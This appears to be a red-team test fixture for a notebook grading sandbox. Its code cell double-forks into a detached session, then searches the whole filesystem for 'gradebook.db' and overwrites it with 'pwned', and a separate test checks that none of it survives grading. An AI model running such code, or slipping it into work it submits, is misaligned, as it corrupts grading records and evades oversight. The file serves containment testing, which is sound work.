# Red team: a blank notebook that starts a detached process (double fork, new session) which waits for
# a gradebook to appear anywhere it can see and would rewrite its scores.  In the sandbox no gradebook is
# visible, and the process dies with the sandbox (its own PID namespace).  tests/exercises/test_red_team.py
# checks that nothing of it survives the grading.

# %% expect
total = 0
cells = 0

# %% add
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        deadline = time.time() + 120
        while time.time() < deadline:
            for root, dirs, files in os.walk("/"):
                if "gradebook.db" in files:
                    with open(os.path.join(root, "gradebook.db"), "r+b") as f:
                        f.write(b"pwned")
            time.sleep(0.5)
    os._exit(0)
